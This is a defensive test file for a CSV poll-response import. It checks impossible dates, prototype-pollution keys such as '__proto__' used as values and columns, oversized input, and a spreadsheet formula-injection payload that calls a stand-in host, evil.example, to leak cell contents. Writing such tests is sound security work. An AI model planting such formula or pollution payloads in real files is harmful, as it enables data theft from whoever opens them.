// A file made to break the import, or whoever opens what comes out of it.
import { expect, test } from 'vitest';
import { forPurpose, inWorkspace } from '../../src/db/scope.ts';
import { informing } from '../../src/domain/insights/reading-purposes.ts';
import { importResponses } from '../../src/domain/exchange/import-responses.ts';
import { mappingInput } from '../../src/domain/exchange/mapping.ts';
import { spreadsheetCell } from '../../src/domain/exchange/spreadsheet-cell.ts';
import { readTable } from '../../src/domain/exchange/table.ts';
import { examplePoll, publishExample } from '../support/example-poll.ts';
import { aMember, testDatabase } from '../support/test-database.ts';

const database = await testDatabase();
const by = await aMember(database);
const { pollId } = await publishExample(database, by, examplePoll());
const now = new Date();

const take = (csv: string, over: object = {}) => {
	const columns = { when: 'when', better: 'better' };
	const mapping = mappingInput.parse({
		collectedBy: 'A',
		basis: 'B',
		source: 'id',
		date: 'day',
		columns,
		...over
	});
	const source = { pollId, table: readTable(csv), mapping, fileName: 'x'.repeat(9000) };
	return inWorkspace(database.db, by.workspaceId, (tx) =>
		importResponses(tx, by, database.secret, source, now)
	);
};

test('a day that no calendar has is left out with its line, and the rest is taken', async () => {
	const days = ['2026-02-30', '0000-01-01', '2026-13-01', '2026-1-1', '20260101', '9999-12-31', 'NaN'];
	const csv = [
		'id,day,when,better',
		...days.map((day, at) => `d${at},${day},sat,x`),
		'good,2021-01-11,sat,x'
	];
	const report = await take(csv.join('\n'));
	expect(report.taken).toBe(1);
	expect(report.leftOut.map((row) => row.line)).toEqual([2, 3, 4, 5, 6, 7, 8]);
});

test('a value named as something every object has is asked about like any other', async () => {
	const values = ['constructor', 'toString', '__proto__', 'valueOf'];
	const csv = ['id,day,when,better', ...values.map((value, at) => `v${at},2021-01-11,${value},x`)].join('\n');
	const asked = take(csv, { values: { when: { Sunday: 'sat' } } });
	await expect(asked).rejects.toMatchObject({ unknown: { when: values } });
	// A name that no record keeps stays asked about; the others are taken as they were told.
	const told = { when: { constructor: 'sat', toString: 'sat', valueOf: 'sat' } };
	await expect(take(csv, { values: told })).rejects.toMatchObject({ unknown: { when: ['__proto__'] } });
	expect((await take(csv.replace('__proto__', 'sat'), { values: told })).taken).toBe(4);
});

test('columns named as parts of every object change nothing else', async () => {
	const csv = 'id,day,when,better,__proto__,constructor\np1,2021-01-11,sat,x,polluted,polluted';
	expect((await take(csv)).taken).toBe(1);
	expect({}).not.toHaveProperty('polluted');
	expect(Object.prototype.constructor).toBe(Object);
});

test('a formula from a file is kept as it was written, and leaves as text', async () => {
	const formula = '=HYPERLINK("http://evil.example?"&A1,"Open")';
	await take(`id,day,when,better\nf1,2021-01-11,sat,"${formula.replaceAll('"', '""')}"`);
	const rows = await inWorkspace(database.db, by.workspaceId, (tx) =>
		forPurpose(tx, informing(by, 1), () => tx.selectFrom('answer').select('value').execute())
	);
	const [stored] = rows.map((row) => String(row.value)).filter((text) => text.includes('HYPERLINK'));
	expect(stored).toBe(formula);
	expect(spreadsheetCell(stored ?? '')).toBe(`'${formula}`);
});

test('a file too long, too wide or torn is refused in words', async () => {
	expect(() => readTable(`a,a\n1,2`)).toThrow('same name');
	expect(() => readTable('a,b\n"1,2')).toThrow('cannot be read');
	expect(() => readTable(`a\n${'1\n'.repeat(50_001)}`)).toThrow('too long');
	const [row] = await database.all`select max(length(file_name)) as longest from import_batch`;
	expect(row?.longest).toBe(255);
});
